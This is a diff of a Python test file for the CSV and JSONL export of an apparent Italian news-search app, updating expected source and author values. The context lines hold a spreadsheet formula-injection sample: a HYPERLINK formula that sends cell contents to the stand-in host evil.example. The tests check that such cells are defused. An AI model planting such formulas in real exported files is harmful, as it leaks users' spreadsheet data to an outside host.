@@ -62,7 +62,7 @@ def test_csv_export_round_trips_with_every_match_and_the_filters(client, export_
     rows = read_csv(response.data)
     # Every match, near-duplicates included (a01 and a08 are one story), newest first.
     assert [row["id"] for row in rows] == ["a01", "a08", "a11"]
-    assert {row["source"] for row in rows} == {"Ansa", "Corriere"}
+    assert {row["source"] for row in rows} == {"ANSA", "Corriere della Sera"}  # canonical names
     assert response.headers["X-Total-Count"] == "3"
     assert response.headers["X-Export-Count"] == "3"
     assert response.headers["X-Export-Limit"] == str(EXPORT_LIMIT) == "10000"
@@ -70,7 +70,7 @@ def test_csv_export_round_trips_with_every_match_and_the_filters(client, export_
         "id": "a01",
         "title": "Il governo approva la manovra finanziaria",
         "date": "2025-04-11",
-        "source": "Corriere",
+        "source": "Corriere della Sera",
         "author": "Mario Rossi",
         "url": "https://example.org/corriere/manovra-finanziaria-governo-approva",
         "score": "0.0",
@@ -122,7 +122,7 @@ def test_csv_cells_that_look_like_formulas_are_defused(client):
     row = rows[0]
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Clicca")'
     assert row["source"] == "'@Agenzia"
-    assert row["author"] == "'-Anonimo"
+    assert row["author"] == ""  # "-Anonimo" is no author name (search.metadata drops it)
     assert row["snippet"].startswith("'+39 scrive il governo")
     assert row["date"] == "2025-01-15"  # values that are not formulas stay as they are
     assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@a", "\tx", "a=b", None, 1.5)] == [
@@ -148,7 +148,7 @@ def test_jsonl_export_holds_the_values_unchanged(client):
         "title": '=HYPERLINK("http://evil.example/?"&A1,"Clicca")',
         "date": "2025-01-15",
         "source": "@Agenzia",
-        "author": "-Anonimo",
+        "author": None,
         "url": "https://example.org/formula",
         "score": json.loads(lines[0])["score"],
         "snippet": "+39 scrive il governo sulla manovra: @cmd e -2+3 nella cella.",
